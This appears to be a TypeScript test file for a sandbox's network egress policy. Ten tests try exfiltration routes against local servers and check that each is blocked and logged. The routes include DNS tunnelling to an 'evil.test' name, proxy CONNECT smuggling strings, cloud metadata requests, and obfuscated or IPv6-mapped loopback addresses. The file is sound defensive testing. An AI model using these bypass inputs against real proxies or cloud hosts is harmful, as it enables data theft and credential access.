// Exfiltration: a cell whose policy allows exactly one local web server tries every other way
// out. Every target below is a loopback server started by this file; each counts connections,
// so "blocked" means the target saw nothing, and "recorded" means the task's audit trail holds
// the proxy's net.denied decision, the DNS stub's dns.denied, or the capture's record of a
// dropped packet (or, for attempts that never reach the proxy, such as a connect to the cell's
// own loopback, the exec of the attacking program with its target on the command line).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AttackCell, HostSentinels } from './harness.js';
import { tcpTarget, webTarget, type Target } from './servers.js';

let ac: AttackCell;
let host: HostSentinels;
let web: Target; // allowed: web.test → 127.0.0.2
let evil: Target; // evil.test → 127.0.0.5, address allowed by CIDR, name not allowed
let sidePort: Target; // another port on the allowed host
let hostLo: Target; // the host's own 127.0.0.1
let hostLo6: Target; // the host's ::1
const targets = () => [web, evil, sidePort, hostLo, hostLo6];

beforeAll(async () => {
  host = new HostSentinels();
  [web, evil, sidePort, hostLo, hostLo6] = await Promise.all([
    webTarget('127.0.0.2'),
    tcpTarget('127.0.0.5'),
    tcpTarget('127.0.0.2'),
    tcpTarget('127.0.0.1'),
    tcpTarget('::1'),
  ]);
  ac = await AttackCell.start({
    policy: {
      network: {
        // The host's resolver answers 127.0.0.1 for localhost: allowed by name, a rebinding
        // to loopback by address.
        allow: [`web.test:${web.port}`, `localhost:${hostLo.port}`],
        cidrs: [`127.0.0.2/32:${web.port}`, '127.0.0.5/32', '169.254.0.0/16'],
        hosts: {
          'web.test': '127.0.0.2',
          'evil.test': '127.0.0.5',
        },
      },
    },
  });
  // The control: the allowed destination works, so every refusal below is the policy's doing.
  const ok = await ac.sh(`curl -sS http://web.test:${web.port}/control`);
  expect(ok.stdout).toBe('ok /control');
});
afterAll(async () => {
  await ac?.dispose();
  await Promise.all(targets().map((t) => t?.close()));
  host?.cleanup();
});

const untouched = (...ts: Target[]) => {
  for (const t of ts) expect(t.connections(), `${t.host}:${t.port}`).toBe(0);
  expect(host.changes()).toEqual([]);
};
const netDenied = (pred: (host: string, port: number, ip?: string) => boolean) =>
  ac.recorded((e) => e.type === 'net.denied' && pred(e.host, e.port, e.ip));

describe('exfiltration', () => {
  it('EXF-01 connects straight to an IP, bypassing the proxy', async () => {
    const [a] = await ac.atk('tcp', '127.0.0.2', String(web.port));
    const [b] = await ac.atk('tcp', '192.0.2.1', '443');
    const [c] = await ac.atk('tcp', '127.0.0.1', String(hostLo.port));
    // The cell's loopback is its own: the host's 127.0.0.x servers are not there.
    expect(a!.ok || c!.ok).toBe(false);
    // Any other address is captured: the connect lands on the proxy, which refuses it.
    expect(b!.ok).toBe(true);
    await netDenied((h, p) => h === '192.0.2.1' && p === 443);
    untouched(evil, hostLo, sidePort);
    expect(web.urls).toEqual(['/control']);
  });

  it('EXF-02 leaks data through DNS: the stub answers only allowed names, other UDP is dropped', async () => {
    const [dns] = await ac.atk('dns', 'c2VjcmV0.exfil.evil.test');
    const [udp] = await ac.atk('udp', '192.0.2.53', '53');
    expect(dns!.ok).toBe(false);
    // The datagram leaves the socket, and the cell's capture drops it.
    expect(udp!.ok).toBe(true);
    await ac.recorded((e) => e.type === 'dns.denied' && e.name === 'c2VjcmV0.exfil.evil.test');
    await netDenied((h, p) => h === '192.0.2.53' && p === 53);
    // SOCKS5 with remote DNS hands the name to the proxy: refused by name, never resolved.
    const [socks] = await ac.atk('socks', 'c2VjcmV0.exfil.test', '53');
    expect(socks!.ok).toBe(false);
    const ev = await netDenied((h) => h === 'c2vjcmv0.exfil.test' || h === 'c2VjcmV0.exfil.test');
    expect(ev.type === 'net.denied' && ev.ip).toBeFalsy(); // denied before any resolution
    untouched(evil, hostLo);
  });

  it('EXF-03 bypasses the proxy settings, or asks the proxy for a host that is not allowed', async () => {
    // With --noproxy the connection is captured and decided all the same: allowed here,
    // recorded as transparent; the denied name does not even resolve.
    const bypass = await ac.sh(
      `curl -sS --max-time 5 --noproxy '*' http://web.test:${web.port}/bypass; echo rc=$?; ` +
        `curl -sS --max-time 5 --noproxy '*' http://evil.test:${evil.port}/bypass; echo rc=$?`,
    );
    expect(bypass.stdout).toMatch(/^ok \/bypassrc=0\n[^]*rc=6\n$/);
    await ac.recorded((e) => e.type === 'net.allowed' && e.protocol === 'transparent-http');
    await ac.recorded((e) => e.type === 'dns.denied' && e.name === 'evil.test');
    const [get] = await ac.atk(
      'proxy',
      `GET http://evil.test:${evil.port}/exfil?d=secret HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n`,
    );
    expect(get!.ok).toBe(false);
    expect(get!.out).toMatch(/403/);
    await netDenied((h) => h === 'evil.test');
    untouched(evil);
  });

  it('EXF-04 uses a denied port on an allowed host', async () => {
    const [c] = await ac.atk('proxy', `CONNECT web.test:${sidePort.port} HTTP/1.1\\r\\n\\r\\n`);
    const [s] = await ac.atk('socks', 'web.test', String(sidePort.port));
    expect(c!.ok).toBe(false);
    expect(s!.ok).toBe(false);
    await netDenied((h, p) => h === 'web.test' && p === sidePort.port);
    untouched(sidePort);
  });

  it('EXF-05 smuggles a CONNECT target past the rules', async () => {
    const E = `evil.test:${evil.port}`;
    const W = `web.test:${web.port}`;
    const smuggled = [
      `CONNECT ${E} HTTP/1.1\\r\\nHost: ${W}\\r\\n\\r\\n`,
      `CONNECT ${W}@${E} HTTP/1.1\\r\\n\\r\\n`,
      `CONNECT ${E}#${W} HTTP/1.1\\r\\n\\r\\n`,
      `CONNECT ${E}/${W} HTTP/1.1\\r\\n\\r\\n`,
      `CONNECT ${E} ${W} HTTP/1.1\\r\\n\\r\\n`,
      `CONNECT ${E}\\tHTTP/1.1\\r\\nX: ${W}\\r\\n\\r\\n`,
      `CONNECT EVIL.TEST.:${evil.port} HTTP/1.1\\r\\n\\r\\n`,
      `CONNECT 127.0.0.5:${evil.port} HTTP/1.1\\r\\nHost: ${W}\\r\\n\\r\\n`,
    ];
    for (const raw of smuggled) {
      const [r] = await ac.atk('proxy', raw);
      expect(r!.ok, raw).toBe(false);
    }
    // A second CONNECT inside an allowed tunnel only talks to the allowed server.
    const inner = await ac.run([
      'python3',
      '-c',
      `import socket; s=socket.create_connection(("127.0.0.1",3128)); s.sendall(b"CONNECT ${W} HTTP/1.1\\r\\n\\r\\n"); print(s.recv(200)); s.sendall(b"CONNECT ${E} HTTP/1.1\\r\\nHost: ${E}\\r\\n\\r\\n"); print(s.recv(200))`,
    ]);
    expect(inner.stdout).toMatch(/200/);
    await netDenied((h) => h.includes('evil.test') || h.includes('127.0.0.5'));
    untouched(evil);
  });

  it('EXF-06 reaches the cloud metadata address, through CONNECT, plain HTTP, SOCKS and IPv6', async () => {
    const attempts = [
      ...(await ac.atk('proxy', 'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n')),
      ...(await ac.atk(
        'proxy',
        'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n',
      )),
      ...(await ac.atk('socks', '169.254.169.254', '80')),
      ...(await ac.atk('proxy', 'CONNECT [fd00:ec2::254]:80 HTTP/1.1\\r\\n\\r\\n')),
    ];
    for (const a of attempts) expect(a.ok, a.t).toBe(false);
    // Even a broad 169.254.0.0/16 CIDR rule does not unlock the metadata service.
    const ev = await netDenied((h) => h === '169.254.169.254');
    expect(ev.type === 'net.denied' && ev.rule).toMatch(/metadata/);
    untouched(evil, hostLo);
  });

  it('EXF-07 uses IPv6 to reach the host loopback', async () => {
    const [direct] = await ac.atk('tcp6', '::1', String(hostLo6.port));
    const [viaProxy] = await ac.atk('proxy', `CONNECT [::1]:${hostLo6.port} HTTP/1.1\\r\\n\\r\\n`);
    const [viaSocks] = await ac.atk('socks', '::1', String(hostLo6.port));
    expect(direct!.ok || viaProxy!.ok || viaSocks!.ok).toBe(false);
    await netDenied((h, p) => p === hostLo6.port && h.includes('::1'));
    untouched(hostLo6);
  });

  it('EXF-08 wraps a denied IPv4 address in IPv4-mapped IPv6', async () => {
    const forms = [
      `[::ffff:127.0.0.1]:${hostLo.port}`,
      `[::ffff:7f00:1]:${hostLo.port}`,
      `[0:0:0:0:0:ffff:127.0.0.1]:${hostLo.port}`,
      `[::127.0.0.1]:${hostLo.port}`,
      `[64:ff9b::7f00:1]:${hostLo.port}`,
    ];
    for (const f of forms) {
      const [r] = await ac.atk('proxy', `CONNECT ${f} HTTP/1.1\\r\\n\\r\\n`);
      expect(r!.ok, f).toBe(false);
    }
    const [socks] = await ac.atk('socks', '::ffff:127.0.0.1', String(hostLo.port));
    expect(socks!.ok).toBe(false);
    await netDenied((h, p) => p === hostLo.port && h.includes('ffff'));
    untouched(hostLo);
  });

  it('EXF-09 uses an allowed name that resolves to a private address (rebinding)', async () => {
    const [c] = await ac.atk('proxy', `CONNECT localhost:${hostLo.port} HTTP/1.1\\r\\n\\r\\n`);
    const [s] = await ac.atk('socks', 'localhost', String(hostLo.port));
    expect(c!.ok).toBe(false);
    expect(s!.ok).toBe(false);
    // Decided on the resolved address: allowed by name, refused by address.
    const ev = await netDenied((h) => h === 'localhost');
    expect(ev.type === 'net.denied' && ev.ip).toMatch(/^(127\.0\.0\.1|::1)$/);
    untouched(hostLo);
  });

  it('EXF-10 hides a loopback address in decimal, hex, octal or short IPv4 forms', async () => {
    for (const t of [
      '2130706433',
      '0x7f000001',
      '0177.0.0.1',
      '127.1',
      '0x7f.0.0.1',
      '127.000.000.001',
    ]) {
      const [r] = await ac.atk('proxy', `CONNECT ${t}:${hostLo.port} HTTP/1.1\\r\\n\\r\\n`);
      expect(r!.ok, t).toBe(false);
    }
    await netDenied((h, p) => p === hostLo.port);
    untouched(hostLo);
  });
});
